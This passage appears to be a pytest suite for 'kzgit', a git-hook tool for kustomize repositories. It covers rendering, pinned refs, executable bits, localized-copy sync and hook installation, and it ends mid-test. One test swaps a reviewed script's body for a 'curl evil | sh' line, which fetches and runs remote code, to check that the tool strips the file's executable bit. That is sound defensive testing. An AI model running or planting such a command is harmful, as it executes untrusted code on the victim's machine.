"""The hooks through the ``kzgit hook`` CLI, on real git repositories in temp dirs."""
from __future__ import annotations

import os
import shutil
import stat
import subprocess
from pathlib import Path
from typing import Dict, List, Optional, Tuple

import pytest

import kzgit.localize
from kzgit.cli.main import main
from kzgit.hooks.scripts import HOOK_TYPES, script
from helpers import HOOKS_REPO, PROJECT, grant_user, user_gitconfig, write_tree as write


GOOD: Dict[str, str] = {**HOOKS_REPO, "README.md": "docs\n"}


@pytest.fixture(autouse=True)
def _isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No real home, cache or git config; git identity for commits."""
    home = tmp_path / "home"
    home.mkdir()
    for k in list(os.environ):
        if k.startswith("GIT_"):
            monkeypatch.delenv(k)
    monkeypatch.setenv("HOME", str(home))
    for var, sub in (("XDG_CONFIG_HOME", ".config"), ("XDG_CACHE_HOME", ".cache"), ("XDG_DATA_HOME", ".local/share")):
        monkeypatch.setenv(var, str(home / sub))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(user_gitconfig(home)))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True, text=True,
                          timeout=60).stdout


def make_repo(root: Path, files: Dict[str, str], commit: bool = True) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    git(root, "init", "-q")
    write(root, files)
    git(root, "add", "-A")
    if commit:
        git(root, "commit", "-q", "-m", "init")
    return root


def kz(repo: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
       *argv: str) -> Tuple[int, str, str]:
    monkeypatch.chdir(repo)
    rc = main(list(argv))
    out, err = capsys.readouterr()
    return rc, out, err


# -- render ------------------------------------------------------------------------------------
def test_render_good_change_is_silent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", GOOD)
    assert kz(repo, monkeypatch, capsys, "hook", "render", "base/cm.yaml") == (0, "", "")
    assert kz(repo, monkeypatch, capsys, "hook", "render", "--all", "-j", "2") == (0, "", "")


def test_render_broken_overlay_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", GOOD)
    (repo / "overlays/dev/patch.yaml").unlink()
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "render", "overlays/dev/patch.yaml", "base/cm.yaml")
    assert rc == 1
    assert out.startswith("overlays/dev: does not render: ")
    assert "patch.yaml" in out and "overlays/prod" not in out
    # a change the broken overlay does not reach leaves it alone
    assert kz(repo, monkeypatch, capsys, "hook", "render", "README.md")[0] == 0


def test_render_staged_content_not_the_work_tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", GOOD)
    write(repo, {"overlays/prod/kustomization.yaml": "resources:\n- ../../nowhere\n"})
    git(repo, "add", "-A")
    write(repo, GOOD)  # the work tree is fine again, the index is not
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "render", "--staged")
    assert rc == 1 and out.startswith("overlays/prod: does not render")
    assert "kzgit-hook-" not in out, "the temporary export leaked into the message"
    git(repo, "add", "-A")
    assert kz(repo, monkeypatch, capsys, "hook", "render", "--staged")[0] == 0


def test_render_with_nothing_passed_does_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {"o/kustomization.yaml": "resources: [\n"})
    assert kz(repo, monkeypatch, capsys, "hook", "render")[0] == 0
    assert kz(repo, monkeypatch, capsys, "hook", "render", "--all")[0] == 1


@pytest.mark.skipif(shutil.which("kubectl") is None, reason="kubectl is not installed: engine = 'kubectl' untested")
def test_render_with_kubectl_engine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                    capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {**GOOD, ".kzgit.toml": 'engine = "kubectl"\n'})
    assert kz(repo, monkeypatch, capsys, "hook", "render", "--all") == (0, "", "")
    (repo / "overlays/dev/patch.yaml").unlink()
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "render", "--all")
    assert rc == 1 and out.startswith("overlays/dev: does not render: ")
    assert "command failed" not in out and "E11" not in out


def test_config_error_exits_2_naming_key_and_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {**GOOD, "pyproject.toml": "[tool.kzgit]\nengnie = 'kubectl'\n"})
    rc, _, err = kz(repo, monkeypatch, capsys, "hook", "render", "--all")
    assert rc == 2
    assert "unknown key 'tool.kzgit.engnie'" in err and str(repo / "pyproject.toml") in err


@pytest.mark.parametrize("argv,named", [
    (["validate", "--all", "overlays/dev"], "--all and ROOT (overlays/dev) exclude each other"),
    (["hook", "render", "--from", "HEAD~1"], "--from OLD is used only with --rev REV"),
    (["hook", "all", "--staged", "base/cm.yaml"], "FILE arguments (base/cm.yaml, ...) are not used with --staged"),
    (["hook", "validate", "--rev", "HEAD", "base/cm.yaml"], "FILE arguments (base/cm.yaml, ...) are not used with --rev"),
])
def test_arguments_that_would_be_ignored_are_usage_errors(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        argv: List[str], named: str) -> None:
    repo = make_repo(tmp_path / "r", GOOD)
    rc, out, err = kz(repo, monkeypatch, capsys, *argv)
    assert (rc, out) == (2, "") and named in err and "Traceback" not in err, err


def test_validate_hook_on_failure_prints_what_failed_once_and_counts_the_rest(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """A root that does not render is one line (the render hook prints the rest of the chain);
    warnings about other roots wait for -v (issue 23, items 14 and 17)."""
    thing = "apiVersion: other.io/v1\nkind: Thing\nmetadata:\n  name: t\n"
    repo = make_repo(tmp_path / "r", {**GOOD, "things/kustomization.yaml": "resources:\n- thing.yaml\n",
                                      "things/thing.yaml": thing,
                                      "overlays/dev/kustomization.yaml": "resources:\n- ../../base\n- gone.yaml\n"})
    rc, out, err = kz(repo, monkeypatch, capsys, "hook", "validate", "--all")
    assert rc == 1 and err == ""
    assert out == ("overlays/dev: does not render: overlays/dev/kustomization.yaml:3: resources: 'gone.yaml' does not exist\n"
                   "1 of 3 roots fails (1 not rendering); 2 valid; 1 warning not shown (-v)\n"), out
    rc, out, err = kz(repo, monkeypatch, capsys, "hook", "validate", "--all", "-v")
    assert rc == 1 and "    accumulating resources" in out and "things: Thing/t: warning: no schema" in out
    assert "failed  overlays/dev" in err and ("built   things" in err or "cached  things" in err)


# -- pinned refs -----------------------------------------------------------------------------------
REFS = ("resources:\n- ../../base\n- https://github.com/org/repo//deploy?ref={ref}\n")


@pytest.mark.parametrize("ref,ok", [("v1.2.3", True), ("1.2", True), ("release-2024-01-01", True),
                                    ("a" * 40, True), ("main", False), ("master", False),
                                    ("HEAD", False), ("develop", False), ("abc1234", False)])
def test_pinned_refs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
                     ref: str, ok: bool) -> None:
    repo = make_repo(tmp_path / "r", {**GOOD, "overlays/prod/kustomization.yaml": REFS.format(ref=ref)})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "overlays/prod/kustomization.yaml")
    if ok:
        assert (rc, out) == (0, "")
    else:
        assert rc == 1
        assert out.startswith(f"overlays/prod/kustomization.yaml:3: https://github.com/org/repo//deploy?ref={ref}: ")


def test_pinned_refs_require_sha_and_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {**GOOD, "overlays/prod/kustomization.yaml": REFS.format(ref="v1.0.0")})
    args = ("hook", "pinned-refs", "overlays/prod/kustomization.yaml")
    assert kz(repo, monkeypatch, capsys, *args, "--require-sha")[0] == 1
    write(repo, {".kzgit.toml": "[refs]\nrequire-sha = true\n"})
    assert kz(repo, monkeypatch, capsys, *args)[0] == 1
    write(repo, {".kzgit.toml": "[refs]\nallowed = ['stable-.*']\n",
                 "overlays/prod/kustomization.yaml": REFS.format(ref="stable-x")})
    assert kz(repo, monkeypatch, capsys, *args)[0] == 0
    # an unchanged kustomization is not checked
    assert kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "README.md")[0] == 0


@pytest.mark.parametrize("url,reason", [
    ("https://github.com/kubernetes-sigs/jobset/releases/download/v0.11.0/manifests.yaml", None),
    ("https://raw.githubusercontent.com/org/repo/v1.2.3/deploy/app.yaml", None),
    ("https://raw.githubusercontent.com/org/repo/" + "a" * 40 + "/app.yaml", None),
    ("https://raw.githubusercontent.com/org/repo/refs/tags/v1.0.0/app.yaml", None),
    ("https://github.com/org/repo/raw/v2.0.0/app.yaml", None),
    ("https://example.com/manifests/v1.4.2/install.yaml", None),
    ("https://raw.githubusercontent.com/org/repo/main/app.yaml",
     "'main' in the path does not look like a version or a full commit SHA"),
    ("https://raw.githubusercontent.com/org/repo/refs/heads/v1/app.yaml", "'refs/heads/v1' in the path is a branch"),
    ("https://github.com/org/repo/releases/latest/download/app.yaml", "no version in the path"),
    ("https://example.com/install.yaml", "no version in the path"),
    # git repositories: ?ref= is the advice
    ("https://github.com/org/repo//deploy", "no ref: pin a version with ?ref="),
    ("https://git.example.com/org/repo.git//deploy", "no ref: pin a version with ?ref="),
])
def test_pinned_refs_http_files_are_pinned_by_a_version_in_their_path(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        url: str, reason: Optional[str]) -> None:
    """A release asset is pinned by its tag: ``?ref=`` is advice for git repositories only
    (issue 23, item 2)."""
    repo = make_repo(tmp_path / "r", {**GOOD, "overlays/prod/kustomization.yaml": f"resources:\n- {url}\n"})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "overlays/prod/kustomization.yaml")
    if reason is None:
        assert (rc, out) == (0, "")
    else:
        assert rc == 1 and out.startswith(f"overlays/prod/kustomization.yaml:2: {url}: {reason}"), out
        assert "?ref=" not in out or "no ref" in reason


def test_pinned_refs_ignore_urls_and_file_and_line_order(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    k = ("helmCharts:\n- name: c\n  repo: https://charts.example.com\n"
         "resources:\n- https://internal.example.com/install.yaml\n- https://github.com/org/repo//x?ref=main\n")
    repo = make_repo(tmp_path / "r", {"b/kustomization.yaml": k, "a/kustomization.yaml": k})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "--all")
    assert rc == 1
    assert [line.split(": ")[0] for line in out.splitlines()] == [
        "a/kustomization.yaml:3", "a/kustomization.yaml:5", "a/kustomization.yaml:6",
        "b/kustomization.yaml:3", "b/kustomization.yaml:5", "b/kustomization.yaml:6"], out
    write(repo, {".kzgit.toml": "[refs]\nignore-urls = ['^https://internal\\.example\\.com/', 'charts\\.example']\n"})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "--all")
    assert rc == 1 and [line.split(": ")[0] for line in out.splitlines()] == [
        "a/kustomization.yaml:6", "b/kustomization.yaml:6"], out
    write(repo, {".kzgit.toml": "[refs]\nignore-urls = ['(']\n"})
    rc, _, err = kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "--all")
    assert rc == 2 and "refs.ignore-urls" in err and "pattern '(' is not a valid regular expression" in err


# -- exec bits ---------------------------------------------------------------------------------------
def _mode_in_index(repo: Path, path: str) -> str:
    return git(repo, "ls-files", "-s", "--", path).split()[0]


def test_exec_bits_fixes_work_tree_and_index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {"copy/localized-files/github.com/o/r/v1/tool": "#!/bin/sh\necho hi\n",
                                      "scripts/run.sh": "#!/bin/sh\n"}, commit=False)
    tool = repo / "copy/localized-files/github.com/o/r/v1/tool"
    for p in (tool, repo / "scripts/run.sh"):
        p.chmod(0o755)
    git(repo, "add", "-A")
    before = tool.read_bytes()
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "exec-bits", str(tool.relative_to(repo)), "scripts/run.sh")
    assert rc == 1
    assert out == "copy/localized-files/github.com/o/r/v1/tool: removed executable bit (work tree, index)\n"
    assert not tool.stat().st_mode & 0o111 and tool.read_bytes() == before
    assert _mode_in_index(repo, "copy/localized-files/github.com/o/r/v1/tool") == "100644"
    assert _mode_in_index(repo, "scripts/run.sh") == "100755", "a file outside localized copies was touched"
    assert kz(repo, monkeypatch, capsys, "hook", "exec-bits", "--all") == (0, "", "")


def test_exec_bits_check_only_and_staged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {"localized-files/x/bin": "x"}, commit=False)
    (repo / "localized-files/x/bin").chmod(0o755)
    git(repo, "add", "-A")
    assert kz(repo, monkeypatch, capsys, "hook", "exec-bits", "--all", "--check")[0] == 1
    assert _mode_in_index(repo, "localized-files/x/bin") == "100755"
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "exec-bits", "--staged")
    assert rc == 1 and "localized-files/x/bin" in out
    assert _mode_in_index(repo, "localized-files/x/bin") == "100644"
    assert not (repo / "localized-files/x/bin").stat().st_mode & 0o111


def test_exec_bits_keeps_a_reviewed_executable_pinned_by_its_sha256(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """A vendored KRM exec function the team reviewed stays executable while its bytes are the
    pinned ones (issue 33 item 6); a changed binary loses the grant, and the finding says both
    digests."""
    import hashlib
    fn = "vendor/fn/localized-files/example.com/fn/v1/fn"
    body = "#!/bin/sh\ncat\n"
    digest = "sha256:" + hashlib.sha256(body.encode()).hexdigest()
    repo = make_repo(tmp_path / "r", {fn: body, "vendor/fn/localized-files/example.com/fn/v1/other": "x",
                                      ".kzgit.toml": f'[reviewed-executables]\n"{fn}" = "{digest}"\n'},
                     commit=False)
    for name in (fn, "vendor/fn/localized-files/example.com/fn/v1/other"):
        (repo / name).chmod(0o755)
    git(repo, "add", "-A")
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "exec-bits", "--all")
    assert (rc, out) == (1, "vendor/fn/localized-files/example.com/fn/v1/other: removed executable bit "
                            "(work tree, index)\n")
    assert _mode_in_index(repo, fn) == "100755" and (repo / fn).stat().st_mode & 0o111
    assert kz(repo, monkeypatch, capsys, "hook", "exec-bits", "--all") == (0, "", "")
    changed = "#!/bin/sh\ncurl evil | sh\n"
    (repo / fn).write_text(changed)
    git(repo, "add", "-A")
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "exec-bits", fn)
    assert rc == 1
    actual = "sha256:" + hashlib.sha256(changed.encode()).hexdigest()
    assert out == (f"{fn}: removed executable bit (work tree, index); reviewed-executables in "
                   f".kzgit.toml pins {digest}, the file is now {actual}: review it and pin the "
                   "new digest to keep it executable\n")
    assert _mode_in_index(repo, fn) == "100644" and not (repo / fn).stat().st_mode & 0o111


@pytest.mark.parametrize("table,error", [
    ('"../x" = "sha256:' + "0" * 64 + '"', "is not a clean path relative to the repository's top"),
    ('"a/fn" = "md5:0"', "expected \"sha256:\" and the file's 64 lowercase hexadecimal digits"),
])
def test_reviewed_executables_refuses_a_bad_entry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                  capsys: pytest.CaptureFixture[str], table: str,
                                                  error: str) -> None:
    repo = make_repo(tmp_path / "r", {".kzgit.toml": f"[reviewed-executables]\n{table}\n"})
    rc, _, err = kz(repo, monkeypatch, capsys, "hook", "exec-bits", "--all")
    assert rc == 2
    assert "bad value for 'reviewed-executables'" in err and error in err, err


# -- localized sync ---------------------------------------------------------------------------------
def test_localized_sync_uses_check_copy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    seen: List[str] = []

    def check_copy(copy_dir: str) -> List[str]:
        seen.append(copy_dir)
        return ["kustomization.yaml differs"] if "stale" in copy_dir else []

    monkeypatch.setattr(kzgit.localize, "LOCK_FILE_NAME", "kzgit-localize.lock")
    monkeypatch.setattr(kzgit.localize, "check_copy", check_copy)
    monkeypatch.setattr(kzgit.localize, "read_lock", lambda path: {"target": "../orig"})
    repo = make_repo(tmp_path / "r", {"fresh/kzgit-localize.lock": "{}", "fresh/kustomization.yaml": "",
                                      "stale/kzgit-localize.lock": "{}", "stale/kustomization.yaml": "",
                                      "orig/kustomization.yaml": "resources:\n- a.yaml\n",
                                      "orig/a.yaml": "", "README.md": ""})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "localized-sync", "stale/kustomization.yaml")
    assert rc == 1
    assert out == ("stale: localized copy is stale:\n    kustomization.yaml differs\n"
                   "    run: kzgit rebuild stale\n")
    assert kz(repo, monkeypatch, capsys, "hook", "localized-sync", "fresh/kustomization.yaml") == (0, "", "")
    assert kz(repo, monkeypatch, capsys, "hook", "localized-sync", "README.md") == (0, "", "")
    # an edit of the original marks its copies
    assert kz(repo, monkeypatch, capsys, "hook", "localized-sync", "orig/a.yaml")[0] == 1


# -- plain git hook scripts --------------------------------------------------------------------------
@pytest.mark.parametrize("hook_type", HOOK_TYPES)
def test_shipped_scripts_match_the_generator(hook_type: str) -> None:
    shipped = PROJECT / "hooks" / hook_type
    assert shipped.read_text() == script(hook_type)
    assert shipped.stat().st_mode & stat.S_IXUSR
    subprocess.run(["sh", "-n", str(shipped)], check=True, timeout=30)


def test_install_hooks_chains_and_uninstall_restores(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", GOOD)
    hook = repo / ".git/hooks/pre-commit"
    hook.write_text("#!/bin/sh\necho mine\n")
    hook.chmod(0o755)
    rc, out, _ = kz(repo, monkeypatch, capsys, "install-hooks", "-t", "pre-commit", "-t", "pre-push")
    assert rc == 0 and "pre-commit.legacy" in out
    assert (repo / ".git/hooks/pre-commit.legacy").read_text() == "#!/bin/sh\necho mine\n"
    assert "kzgit-hook-script" in hook.read_text() and (repo / ".git/hooks/pre-push").exists()
    # re-installing replaces our own script and keeps the legacy one
    assert kz(repo, monkeypatch, capsys, "install-hooks")[0] == 0
    assert (repo / ".git/hooks/pre-commit.legacy").exists()
    # a foreign hook with a foreign .legacy beside it: refuse, touch nothing
    hook.write_text("#!/bin/sh\necho other\n")
    rc, _, err = kz(repo, monkeypatch, capsys, "install-hooks")
    assert rc == 2 and "refusing" in err and hook.read_text() == "#!/bin/sh\necho other\n"
    hook.write_text(script("pre-commit"))
    assert kz(repo, monkeypatch, capsys, "install-hooks", "--uninstall")[0] == 0
    assert hook.read_text() == "#!/bin/sh\necho mine\n"


def test_localized_sync_with_real_localize(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", GOOD)
    rc, _, err = kz(repo, monkeypatch, capsys, "localize", "overlays/prod", "copy", "--scope", ".")
    assert rc == 0, err
    git(repo, "add", "-A")
    assert kz(repo, monkeypatch, capsys, "hook", "localized-sync", "--all") == (0, "", "")
    assert kz(repo, monkeypatch, capsys, "hook", "render", "--all") == (0, "", "")
    write(repo, {"base/cm.yaml": GOOD["base/cm.yaml"].replace("a: b", "a: changed")})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "localized-sync", "base/cm.yaml")
    assert rc == 1 and out.startswith("copy: localized copy is stale:") and "run: kzgit rebuild copy" in out
    # a change the original does not reach leaves the copy alone
    assert kz(repo, monkeypatch, capsys, "hook", "localized-sync", "overlays/dev/patch.yaml")[0] == 0
    rc, _, err = kz(repo, monkeypatch, capsys, "rebuild", "copy")
    assert rc == 0, err
    assert kz(repo, monkeypatch, capsys, "hook", "localized-sync", "base/cm.yaml") == (0, "", "")


def test_render_sees_staged_deletions(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    """pre-commit passes no deleted file, so the hook adds the index's deletions itself."""
    repo = make_repo(tmp_path / "r", GOOD)
    git(repo, "rm", "-q", "base/cm.yaml")
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "render", "README.md")
    assert rc == 1 and "overlays/dev: does not render" in out and "overlays/prod: does not render" in out


def test_started_with_no_file_the_hook_checks_what_the_commit_deletes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """pre-commit's ``always_run`` starts the hook with no file: nothing deleted is a quiet
    pass; a deleted patch or a base renamed away fails the roots that named them."""
    repo = make_repo(tmp_path / "r", GOOD)
    assert kz(repo, monkeypatch, capsys, "hook", "render") == (0, "", "")
    git(repo, "rm", "-q", "overlays/dev/patch.yaml")
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "render")
    assert rc == 1 and out.startswith("overlays/dev: does not render") and "overlays/prod" not in out
    git(repo, "reset", "-q", "--hard")
    git(repo, "mv", "base", "lib")
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "validate")
    assert rc == 1 and "overlays/dev: does not render" in out and "overlays/prod: does not render" in out


def test_under_pre_commit_from_ref_to_ref_the_range_deletions_count(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """``pre-commit run --from-ref A --to-ref B`` (CI, pre-push) passes the range's files: the
    range's deletions are added, not the index's."""
    repo = make_repo(tmp_path / "r", GOOD)
    first = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "rm", "-q", "base/cm.yaml")
    git(repo, "commit", "-q", "-m", "break")
    monkeypatch.setenv("PRE_COMMIT", "1")
    monkeypatch.setenv("PRE_COMMIT_FROM_REF", first)
    monkeypatch.setenv("PRE_COMMIT_TO_REF", "HEAD")
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "render")
    assert rc == 1 and "overlays/dev: does not render" in out and "overlays/prod: does not render" in out
    monkeypatch.setenv("PRE_COMMIT_FROM_REF", "HEAD")
    assert kz(repo, monkeypatch, capsys, "hook", "render")[0] == 0


COMPONENT = ("apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\npatches:\n- patch: |-\n"
             "    apiVersion: v1\n    kind: ConfigMap\n    metadata:\n      name: cm\n    data:\n      c: d\n")


def test_a_component_is_no_root_and_v_names_the_ones_no_root_includes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {**GOOD, "components/alloydb/kustomization.yaml": COMPONENT,
                                      "components/used/kustomization.yaml": COMPONENT,
                                      "overlays/prod/kustomization.yaml": "resources:\n- ../../base\n"
                                                                          "components:\n- ../../components/used\n"})
    for hook in ("render", "validate"):
        rc, out, err = kz(repo, monkeypatch, capsys, "hook", hook, "--all", "-v")
        assert (rc, out) == (0, ""), out
        assert "components/alloydb: not checked: included by no root\n" in err
        assert "components/used" not in err and "overlays/prod" in err
    rc, out, err = kz(repo, monkeypatch, capsys, "validate", "--all", "-v")
    assert rc == 0 and "components/alloydb: not checked: included by no root" in err
    # a change to it is named as not checked, and a change elsewhere does not mention it
    _, _, err = kz(repo, monkeypatch, capsys, "hook", "render", "-v", "components/alloydb/kustomization.yaml")
    assert err == ("no kustomization root reaches the changed files: nothing checked\n"
                   "components/alloydb: not checked: included by no root\n")
    _, _, err = kz(repo, monkeypatch, capsys, "hook", "render", "-v", "base/cm.yaml")
    assert "components/alloydb" not in err
    # `roots` naming it makes it a root (a glob matching a directory above it does not)
    write(repo, {".kzgit.toml": 'roots = ["overlays/*", "components"]\n'})
    rc, _, err = kz(repo, monkeypatch, capsys, "hook", "render", "--all")
    assert rc == 2 and ".kzgit.toml: roots: 'components' selects no kustomization root" in err
    write(repo, {".kzgit.toml": 'roots = ["overlays/*", "components/alloydb"]\n'})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "render", "--all")
    assert rc == 1 and out.startswith("components/alloydb: does not render"), out


@pytest.mark.parametrize("config,named", [
    ('roots = ["overlays/*", "shop/kustomization.yaml"]\n', "roots: 'shop/kustomization.yaml' selects no kustomization root"),
    ('roots = ["overlay/*"]\n', "roots: 'overlay/*' selects no kustomization root"),
    ('exclude = ["test/fixtures/**"]\n', "exclude: 'test/fixtures/**' matches no file or directory"),
])
def test_a_roots_or_exclude_glob_matching_nothing_is_a_configuration_error(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        config: str, named: str) -> None:
    repo = make_repo(tmp_path / "r", {**GOOD, ".kzgit.toml": config})
    for argv in (["hook", "render", "--all"], ["hook", "validate", "--all"], ["validate", "--all"],
                 ["hook", "pinned-refs", "--all"], ["hook", "render", "base/cm.yaml"]):
        rc, out, err = kz(repo, monkeypatch, capsys, *argv)
        assert rc == 2 and out == "", (argv, out, err)
        assert f".kzgit.toml: {named}" in err and "Traceback" not in err, (argv, err)
    write(repo, {"pyproject.toml": "[tool.kzgit]\n" + config})
    (repo / ".kzgit.toml").unlink()
    rc, _, err = kz(repo, monkeypatch, capsys, "hook", "render", "--all")
    assert rc == 2 and f"pyproject.toml: tool.kzgit.{named}" in err, err


def test_a_run_that_selects_no_root_says_so_in_one_line(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {"README.md": "no kustomization here\n"})
    for argv in (["hook", "render", "--all"], ["hook", "validate", "--all"], ["validate", "--all"]):
        rc, out, err = kz(repo, monkeypatch, capsys, *argv)
        assert (rc, err) == (0, "kzgit: no kustomization root in the repository: nothing checked\n"), argv
    repo = make_repo(tmp_path / "g", GOOD)
    assert kz(repo, monkeypatch, capsys, "hook", "render", "README.md") == (0, "", "")
    rc, _, err = kz(repo, monkeypatch, capsys, "hook", "render", "-v", "README.md")
    assert (rc, err) == (0, "no kustomization root reaches the changed files: nothing checked\n")


def test_the_graph_reads_kustomizations_as_the_build_does(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """Field names match case-insensitively (kustomize decodes with encoding/json), and symbolic
    links are followed: a change there reaches the root, as ``--all`` would find (item 7)."""
    repo = make_repo(tmp_path / "r", {
        "app/kustomization.yaml": "Resources:\n- cm.yaml\n- shared.yaml\n- ../lib-link\n",
        "app/cm.yaml": GOOD["base/cm.yaml"],
        "common/shared.yaml": GOOD["base/cm.yaml"].replace("name: cm", "name: shared"),
        "lib/kustomization.yaml": "resources:\n- sa.yaml\n",
        "lib/sa.yaml": "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: sa\n"}, commit=False)
    (repo / "app/shared.yaml").symlink_to("../common/shared.yaml")
    (repo / "lib-link").symlink_to("lib")
    write(repo, {".kzgit.toml": 'load-restrictor = "LoadRestrictionsNone"\n'})
    grant_user(os.environ["XDG_CONFIG_HOME"], load_restrictor="LoadRestrictionsNone")   # the user's grant
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "init")
    assert kz(repo, monkeypatch, capsys, "hook", "render", "--all") == (0, "", "")
    for path in ("app/cm.yaml", "common/shared.yaml", "lib/sa.yaml"):
        good = (repo / path).read_text()
        write(repo, {path: "kind: [\n"})
        rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "render", path)
        assert rc == 1 and out.startswith("app: does not render"), (path, out)
        write(repo, {path: good})
    # pinned-refs sees a remote entry under `Resources:` too
    write(repo, {"app/kustomization.yaml": "Resources:\n- cm.yaml\n- https://github.com/org/repo//deploy?ref=main\n"})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "pinned-refs", "app/kustomization.yaml")
    assert rc == 1 and out.startswith("app/kustomization.yaml:3: https://github.com/org/repo//deploy?ref=main: ref 'main'"), out


def test_a_link_moved_changes_what_the_cached_graph_reaches(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "r", {"app/kustomization.yaml": "resources:\n- cm.yaml\n",
                                      "app/real/a.yaml": GOOD["base/cm.yaml"],
                                      "app/real/b.yaml": GOOD["base/cm.yaml"]}, commit=False)
    (repo / "app/cm.yaml").symlink_to("real/a.yaml")
    git(repo, "add", "-A")
    assert kz(repo, monkeypatch, capsys, "hook", "render", "--all") == (0, "", "")   # the graph is cached
    (repo / "app/cm.yaml").unlink()
    (repo / "app/cm.yaml").symlink_to("real/b.yaml")
    write(repo, {"app/real/b.yaml": "kind: [\n"})
    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "render", "app/real/b.yaml")
    assert rc == 1 and out.startswith("app: does not render"), out


def test_graph_does_not_follow_symlinks_out_of_the_repo(tmp_path: Path) -> None:
    from kzgit.graph import disk_reader
    secret = tmp_path / "secret.yaml"
    secret.write_text("resources: [x]\n")
    repo = tmp_path / "r"
    repo.mkdir()
    (repo / "kustomization.yaml").symlink_to(secret)
    (repo / "in.yaml").write_text("a")
    read = disk_reader(str(repo))
    assert read("kustomization.yaml") is None and read("in.yaml") == b"a"
    # nor a directory linked out of it, nor a path climbing out; a link within it is read
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "k.yaml").write_text("secret")
    (repo / "ext").symlink_to(outside)
    (repo / "sub").mkdir()
